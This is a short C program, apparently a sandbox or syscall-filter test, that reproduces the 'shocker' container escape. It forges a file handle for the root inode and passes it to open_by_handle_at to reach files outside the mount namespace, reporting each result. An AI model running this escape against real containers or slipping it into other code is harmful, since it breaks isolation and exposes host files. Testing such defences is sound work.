/* The "shocker" escape: file handles name inodes outside the mount namespace.
 * name_to_handle_at on a bound directory, then open_by_handle_at with a forged handle. */
#define _GNU_SOURCE
#include "sys_common.h"
#include <fcntl.h>
#include <stdlib.h>

int main(void) {
    struct file_handle *h = malloc(sizeof *h + 128);
    h->handle_bytes = 128;
    int mount_id;
    report("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/usr", h, &mount_id, 0));
    h->handle_bytes = 8;
    h->handle_type = 1; /* FILEID_INO32_GEN: inode 2, the root of most filesystems */
    memcpy(h->f_handle, "\x02\x00\x00\x00\x00\x00\x00\x00", 8);
    int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
    report("open_by_handle_at", open_by_handle_at(mfd, h, O_RDONLY));
    return 0;
}
